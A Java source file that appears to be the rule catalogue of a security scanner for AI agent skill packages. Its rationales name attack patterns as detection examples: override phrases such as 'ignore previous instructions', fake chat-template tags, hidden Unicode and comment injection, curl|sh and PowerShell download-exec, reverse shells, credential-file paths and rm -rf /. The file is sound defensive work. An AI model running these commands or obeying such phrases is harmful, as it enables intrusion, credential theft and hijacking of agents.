package dev.tank.analyze;

import static dev.tank.analyze.Severity.CRITICAL;
import static dev.tank.analyze.Severity.HIGH;
import static dev.tank.analyze.Severity.MEDIUM;

import java.util.ArrayList;
import java.util.List;

/**
 * The rule catalogue, in one place: every rule's id, category, severity, title and rationale.
 * How a line rule finds its matches (triggers and expressions) is in {@link LineChecks}, next to
 * nothing else; the few rules implemented in code ({@link HiddenComments}, {@link BundledFiles},
 * {@link Typosquat}, the blob decoder in {@link Engine}) take their metadata from here too.
 *
 * <p>Each rule has fixtures under {@code src/test/resources/analyze/<rule-id>/}: a {@code positive}
 * one that must trigger it and a {@code benign} look-alike that must not ({@code CatalogTest}).
 */
final class Catalog {
  static final String PROMPT = "prompt-injection";
  static final String DOWNLOAD_EXEC = "download-execute";
  static final String CREDENTIALS = "credential-access";
  static final String EXFIL = "exfiltration";
  static final String OBFUSCATION = "obfuscation";
  static final String PERSISTENCE = "persistence";
  static final String DESTRUCTIVE = "destructive";
  static final String SECRETS = "hardcoded-secret";
  static final String TYPOSQUAT = "typosquatting";
  static final String UNDECLARED = "undeclared-capability";

  private Catalog() {}

  private static final List<Rule> ALL = new ArrayList<>();

  private static Rule rule(String id, String category, Severity severity, String title, String rationale) {
    Rule r = new Rule(id, category, severity, title, rationale);
    ALL.add(r);
    return r;
  }

  // ---------------------------------------------------------------- prompt injection

  static final Rule INSTRUCTION_OVERRIDE = rule("instruction-override", PROMPT, HIGH,
      "Text tells the agent to ignore or replace its instructions",
      "Phrases such as 'ignore previous instructions' or 'you are now in developer mode' exist to take over "
          + "the agent that loads the skill; legitimate skills add instructions, they do not revoke them.");
  static final Rule SECRECY = rule("secrecy-instruction", PROMPT, HIGH,
      "Text tells the agent to act without the user knowing",
      "Asking the agent to act silently or hide steps from the user is how a skill turns the agent against "
          + "its user; honest skills have nothing to hide from the person running them.");
  static final Rule FAKE_ROLE_TAG = rule("fake-role-tag", PROMPT, HIGH,
      "Fake system, assistant or chat-template tag",
      "Tags like <system>, <|im_start|> or [INST] imitate the chat template so that skill text reads as if "
          + "it came from the system or the model itself.");
  static final Rule HIDDEN_COMMENT = rule("hidden-comment-instruction", PROMPT, HIGH,
      "Instructions or commands hidden in a Markdown comment",
      "HTML comments and '[//]: #' lines are invisible when Markdown is rendered but the agent reads them; "
          + "instructions or commands there are meant to be seen by the agent only.");
  static final Rule UNICODE_TAGS = rule("unicode-tag-smuggling", PROMPT, CRITICAL,
      "Invisible Unicode tag characters (hidden text)",
      "Characters U+E0000-U+E007F (and runs of variation selectors) render as nothing but models read them "
          + "as text: a way to smuggle instructions past every human reviewer.");
  static final Rule BIDI = rule("bidi-control", PROMPT, HIGH,
      "Bidirectional override characters",
      "Right-to-left overrides and isolates reorder what a reviewer sees (Trojan Source, CVE-2021-42574), so "
          + "code or instructions read differently from what runs.");
  static final Rule ZERO_WIDTH = rule("zero-width-char", PROMPT, MEDIUM,
      "Zero-width characters inside text",
      "Zero-width spaces and joiners hide text, split keywords to dodge filters and carry hidden payloads; "
          + "they are allowed only where scripts need them (emoji sequences, joining scripts, a leading BOM).");

  // ---------------------------------------------------------------- download and execute

  static final Rule PIPE_TO_SHELL = rule("pipe-to-shell", DOWNLOAD_EXEC, CRITICAL,
      "Downloads code and pipes it into a shell or interpreter",
      "curl|sh, wget -O- | python3 and the like run whatever the server sends at that moment, unreviewed "
          + "and unpinned: the installer pattern behind the 2026 skill-marketplace credential thefts.");
  static final Rule REMOTE_SUBSTITUTION = rule("remote-script-substitution", DOWNLOAD_EXEC, CRITICAL,
      "Runs downloaded code through command or process substitution",
      "bash <(curl ...), sh -c \"$(curl ...)\" and eval \"$(wget ...)\" are pipe-to-shell in another "
          + "spelling, used precisely because simple filters only look for a pipe.");
  static final Rule POWERSHELL_REMOTE = rule("powershell-remote-exec", DOWNLOAD_EXEC, CRITICAL,
      "PowerShell downloads and invokes code",
      "iex (iwr ...), irm ... | iex and IEX(New-Object Net.WebClient).DownloadString(...) are the Windows "
          + "form of curl|sh.");
  static final Rule DECODE_EXEC = rule("decode-and-exec", DOWNLOAD_EXEC, CRITICAL,
      "Decodes an encoded payload and executes it",
      "base64 -d | sh, exec(b64decode(...)), eval(atob(...)) and powershell -enc hide what runs from the "
          + "reader; there is no honest reason for a skill to ship code that only a decoder can read.");
  static final Rule REMOTE_EVAL = rule("remote-code-eval", DOWNLOAD_EXEC, CRITICAL,
      "Evaluates code fetched over the network",
      "exec(urlopen(...).read()) or eval(await fetch(...)) runs code the skill does not contain, so no "
          + "review or signature of the skill covers it.");
  static final Rule PASSWORD_ARCHIVE = rule("password-protected-archive", DOWNLOAD_EXEC, HIGH,
      "Extracts or points to a password-protected archive",
      "unzip -P, 7z x -p and 'password: infected' keep malware away from scanners until the user or agent "
          + "unpacks it; a skill's files should be readable as they are.");
  static final Rule DOWNLOAD_THEN_RUN = rule("download-then-execute", DOWNLOAD_EXEC, HIGH,
      "Downloads a file and runs it in the same command",
      "curl -o x && chmod +x x && ./x runs a download without any check of what arrived; verify a pinned "
          + "checksum or signature first, or ship the code in the skill.");
  static final Rule EXECUTABLE_LINK = rule("remote-executable-link", DOWNLOAD_EXEC, MEDIUM,
      "Links to a native installer or executable",
      "A URL ending in .exe, .dmg, .pkg, .msi, .ps1 and the like asks someone to run a binary that is not "
          + "part of the skill and cannot be reviewed with it.");
  static final Rule PREREQUISITE = rule("prerequisite-installer", DOWNLOAD_EXEC, HIGH,
      "Tells the reader to download and run a 'prerequisite' first",
      "Malicious skills present their payload as a required setup step ('before using this skill, run ...'); "
          + "a skill's dependencies belong in skills.json, not in a download the reader is told to run.");

  // ---------------------------------------------------------------- credential access

  static final Rule SSH_KEYS = rule("ssh-private-key-access", CREDENTIALS, HIGH,
      "Reads SSH private keys or the whole ~/.ssh folder",
      "Private keys in ~/.ssh open every server and repository the user can reach; public keys, "
          + "known_hosts and config are not secret and are not reported.");
  static final Rule CLOUD_CREDENTIALS = rule("cloud-credential-access", CREDENTIALS, HIGH,
      "Reads cloud, registry or tool credential files",
      "~/.aws, ~/.azure, gcloud, ~/.kube/config, ~/.docker/config.json, ~/.npmrc, ~/.netrc, ~/.git-credentials "
          + "and ~/.gnupg hold long-lived credentials a skill has no business reading.");
  static final Rule KEYCHAIN = rule("keychain-access", CREDENTIALS, HIGH,
      "Queries the OS keychain or credential manager",
      "security find-generic-password, secret-tool lookup, cmdkey /list or CryptUnprotectData read every "
          + "password the user saved.");
  static final Rule BROWSER = rule("browser-profile-access", CREDENTIALS, HIGH,
      "Reads browser profiles (saved passwords, cookies)",
      "Login Data, Cookies, logins.json and key4.db hold saved passwords and live sessions: the first thing "
          + "infostealers copy.");
  static final Rule WALLET = rule("crypto-wallet-access", CREDENTIALS, HIGH,
      "Reads cryptocurrency wallets or asks for a seed phrase",
      "wallet.dat, keystores, wallet browser extensions and seed phrases give direct, irreversible access "
          + "to funds.");
  static final Rule DOTENV = rule("dotenv-access", CREDENTIALS, MEDIUM,
      "Reads .env files",
      ".env files hold the project's secrets; reading them may be legitimate, but it should be visible to "
          + "reviewers. Templates (.env.example, .env.sample, ...) are not reported.");
  static final Rule ENV_DUMP = rule("environment-dump", CREDENTIALS, HIGH,
      "Collects the whole environment",
      "Serialising os.environ or process.env, or piping env into the network, sweeps up every token in the "
          + "environment at once; a skill reads the variables it declares.");
  static final Rule CLOUD_METADATA = rule("cloud-metadata-access", CREDENTIALS, HIGH,
      "Contacts the cloud instance-metadata service",
      "169.254.169.254 and metadata.google.internal hand out the machine's cloud credentials to any process "
          + "that asks.");

  // ---------------------------------------------------------------- exfiltration

  static final Rule WEBHOOK = rule("webhook-endpoint", EXFIL, HIGH,
      "Sends to a webhook, tunnel or request-capture service",
      "Discord/Slack webhooks, Telegram bots, webhook.site, ngrok and interaction catchers are cheap, "
          + "anonymous drop boxes for stolen data.");
  static final Rule PASTE_SITE = rule("paste-site", EXFIL, HIGH,
      "Uses a paste or anonymous file-sharing site",
      "pastebin, transfer.sh, 0x0.st and friends host payloads and receive stolen data without an account.");
  static final Rule RAW_IP = rule("raw-ip-url", EXFIL, HIGH,
      "URL with a raw public IP address",
      "Legitimate services have names; a bare public IP (or its hex/decimal spelling) in a URL avoids DNS "
          + "reputation checks. Loopback, private and documentation ranges are not reported.");
  static final Rule DNS_EXFIL = rule("dns-exfiltration", EXFIL, HIGH,
      "Puts data into DNS lookups",
      "Looking up names built from command output or variables (dig $(whoami).x.example) leaks data through "
          + "DNS, which firewalls rarely block.");
  static final Rule REVERSE_SHELL = rule("reverse-shell", EXFIL, CRITICAL,
      "Opens a reverse shell",
      "/dev/tcp redirections, nc -e, socat exec: and socket-to-pty tricks hand an interactive shell to a "
          + "remote machine.");
  static final Rule CREDENTIAL_EXFIL = rule("credential-exfiltration", EXFIL, CRITICAL,
      "Sends a credential file over the network",
      "A credential store and a network client on one line is theft in one command.");

  // ---------------------------------------------------------------- obfuscation

  static final Rule ENCODED_BLOB = rule("encoded-code-blob", OBFUSCATION, HIGH,
      "Base64 or hex blob that decodes to code",
      "Encoded blobs that decode to commands or URLs hide behaviour from review; decoded text is scanned "
          + "again by the download-and-execute and exfiltration rules.");
  static final Rule CHAR_CODES = rule("char-code-obfuscation", OBFUSCATION, HIGH,
      "Text built from character codes or escape sequences",
      "String.fromCharCode(...), chr()+chr() chains and long \\x.. escape runs spell strings a reader cannot "
          + "see; the decoded text is scanned again.");
  static final Rule DYNAMIC_EVAL = rule("dynamic-code-eval", OBFUSCATION, MEDIUM,
      "Evaluates a computed string as code",
      "eval/exec of a variable, new Function(...), Invoke-Expression $x or shell eval \"$x\" run code that "
          + "does not appear in the file; method calls such as parser.eval(...) are not reported.");
  static final Rule PACKED_LOADER = rule("packed-code-loader", OBFUSCATION, HIGH,
      "Loads packed, marshalled or obfuscated code",
      "marshal.loads, zlib-decompressed base64, rot13, pickle of downloaded data, JS packers and "
          + "obfuscator output exist to hide what code does.");
  static final Rule ANALYSIS_LIMIT = rule("analysis-limit", OBFUSCATION, HIGH,
      "Text too long or too dense with candidates to analyse completely",
      "The analyzer bounds its work: a rule looks at no more than " + Engine.MAX_WINDOWS_PER_LINE + " windows of one "
          + "line and " + Engine.REGEX_BUDGET / (1024 * 1024) + " MiB of candidate text per file. Whatever lies beyond was "
          + "not checked, and unchecked text cannot pass: padding is a known way to hide a payload.");
  static final Rule OPAQUE_BINARY = rule("bundled-opaque-binary", OBFUSCATION, MEDIUM,
      "Ships an executable or archive that cannot be reviewed",
      "Native executables and archives inside a skill cannot be read by reviewers or by this analyzer.");
  static final Rule ENCRYPTED_ARCHIVE = rule("encrypted-archive-file", OBFUSCATION, HIGH,
      "Ships an encrypted archive",
      "An encrypted archive hides its content from every scanner; only the password holder knows what it is.");

  // ---------------------------------------------------------------- persistence and system modification

  static final Rule SHELL_RC = rule("shell-rc-modification", PERSISTENCE, HIGH,
      "Writes to shell startup files",
      "Appending to ~/.bashrc, ~/.zshrc, ~/.profile or $PROFILE runs code in every future shell, long after "
          + "the skill is gone.");
  static final Rule SCHEDULED_TASK = rule("scheduled-task-persistence", PERSISTENCE, HIGH,
      "Installs a cron job or scheduled task",
      "crontab, /etc/cron.*, schtasks /create and Register-ScheduledTask make code run again on a timer.");
  static final Rule AUTOSTART = rule("autostart-persistence", PERSISTENCE, HIGH,
      "Installs a launch agent, service or autostart entry",
      "LaunchAgents, systemd units, Run keys, Startup folders and ld.so.preload start code at login or boot.");
  static final Rule AUTHORIZED_KEYS = rule("ssh-authorized-keys", PERSISTENCE, CRITICAL,
      "Adds to SSH authorized_keys",
      "A key appended to authorized_keys is a permanent back door into the account.");
  static final Rule AGENT_CONFIG = rule("agent-config-tampering", PERSISTENCE, HIGH,
      "Changes agent configuration or disables its safeguards",
      "Writing CLAUDE.md, AGENTS.md, agent settings, MCP configs or other skills, or turning on "
          + "--dangerously-skip-permissions / auto-approve, gives the skill influence beyond its own run.");
  static final Rule SECURITY_BYPASS = rule("security-control-bypass", PERSISTENCE, HIGH,
      "Disables a security control",
      "Removing the macOS quarantine flag, disabling Gatekeeper, SELinux, Defender, AMSI or TLS checks, or "
          + "clearing logs and history, prepares the ground for something that would otherwise be stopped.");
  static final Rule SYSTEM_FILES = rule("system-file-modification", PERSISTENCE, HIGH,
      "Modifies system files or privileges",
      "Writes to /etc/hosts, sudoers, /etc/passwd, system binary folders, setuid bits, LD_PRELOAD and "
          + "admin-group changes alter the machine for every user.");

  // ---------------------------------------------------------------- destructive

  static final Rule RECURSIVE_DELETE = rule("recursive-delete-root", DESTRUCTIVE, CRITICAL,
      "Recursively deletes the root, home or a system folder",
      "rm -rf /, ~, $HOME or /usr (and their Windows and Python equivalents) destroy the user's data or "
          + "system; deleting a build folder inside the project is not reported.");
  static final Rule DISK_WIPE = rule("disk-wipe", DESTRUCTIVE, CRITICAL,
      "Formats, overwrites or wipes disks, or deletes backups",
      "mkfs, dd to a block device, diskutil eraseDisk, vssadmin delete shadows and fork bombs destroy data "
          + "or availability outright.");
  static final Rule FORCE_PUSH = rule("force-push", DESTRUCTIVE, MEDIUM,
      "Force-pushes git history",
      "git push --force rewrites shared history and can destroy other people's work; --force-with-lease is "
          + "the safe form and is not reported.");

  // ---------------------------------------------------------------- hardcoded secrets

  static final Rule PRIVATE_KEY = rule("private-key-block", SECRETS, HIGH,
      "Contains a private key",
      "A private key in a published skill is public from then on; public keys and certificates are fine.");
  static final Rule CLOUD_KEY = rule("cloud-credential-literal", SECRETS, HIGH,
      "Contains a cloud access key",
      "AWS access keys, Google API keys and Azure storage keys in a skill are leaked credentials (AWS's "
          + "documented example keys are ignored).");
  static final Rule SERVICE_TOKEN = rule("service-token-literal", SECRETS, HIGH,
      "Contains an API token of a known service",
      "GitHub, GitLab, npm, PyPI, Slack, Stripe, OpenAI, Anthropic, Hugging Face and similar tokens have "
          + "recognisable shapes; one in a skill is a leaked credential.");
  static final Rule GENERIC_SECRET = rule("generic-secret-assignment", SECRETS, MEDIUM,
      "Assigns a literal password, token or key",
      "A literal value assigned to password/secret/api_key/token (or a bearer token or URL password) is "
          + "probably a real secret; placeholders and environment lookups are not reported.");
  static final Rule BUNDLED_CREDENTIALS = rule("bundled-credential-file", SECRETS, HIGH,
      "Ships a credential file",
      ".env files with values, private-key files, keystores, password databases and token-bearing .npmrc or "
          + ".netrc files should never be packed into a skill.");

  // ---------------------------------------------------------------- typosquatting

  static final Rule TYPOSQUAT_NAME = rule("typosquat-name", TYPOSQUAT, HIGH,
      "Name imitates a skill already in the registry",
      "A name one typo, homoglyph or separator away from an existing skill of another publisher (or a scope "
          + "that imitates its scope) catches users who mistype or misread.");

  // ---------------------------------------------------------------- declared versus observed

  static final Rule UNDECLARED_NETWORK = rule("undeclared-network", UNDECLARED, HIGH,
      "Code uses the network but no network access is declared",
      "Permissions are the contract users approve; code that reaches the network while skills.json declares "
          + "no network.outbound is either sloppy or hiding something.");
  static final Rule UNDECLARED_HOST = rule("undeclared-network-host", UNDECLARED, HIGH,
      "Code contacts a host outside the declared network.outbound",
      "When outbound hosts are declared, every host the code names must be covered by one of them.");
  static final Rule UNDECLARED_SECRET = rule("undeclared-secret", UNDECLARED, HIGH,
      "Code reads a secret environment variable that is not declared",
      "Secrets a skill reads must be listed in permissions.secrets.required so users know what it can see.");
  static final Rule UNDECLARED_SUBPROCESS = rule("undeclared-subprocess", UNDECLARED, MEDIUM,
      "Code starts processes without a matching subprocess permission",
      "Starting programs needs permissions.subprocess (true, or the list of commands); shell scripts are "
          + "commands by nature and are not checked line by line.");
  static final Rule UNDECLARED_FILESYSTEM = rule("undeclared-filesystem", UNDECLARED, MEDIUM,
      "Code writes files or reaches outside the project without declaring it",
      "Writing files needs permissions.filesystem.write; reaching into the home folder needs a declared "
          + "glob outside the project.");

  /** Every rule, in catalogue order. */
  static final List<Rule> RULES = List.copyOf(ALL);
}
